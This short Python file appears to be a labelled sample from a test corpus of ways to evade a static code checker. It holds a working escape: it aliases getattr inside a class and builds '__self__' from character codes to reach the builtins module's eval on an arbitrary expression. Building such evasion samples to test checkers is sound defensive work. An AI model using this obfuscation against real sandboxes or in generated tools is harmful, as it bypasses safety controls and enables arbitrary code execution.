# family: computed
# Escape: inside a class body the name getattr is bound ("getattr = getattr"), so the checker thinks the
# value use may be the class attribute; at run time it is the builtin, stored as a plain class attribute
# (builtins are not descriptors). Tools.fetch(obj, name) is getattr with a name made by "".join(map(chr, ...)).
class Tools:
    getattr = getattr
    fetch = getattr


def tool(expression: str):
    name = "".join(map(chr, [95, 95, 115, 101, 108, 102, 95, 95]))
    return Tools.fetch(print, name).eval(expression)
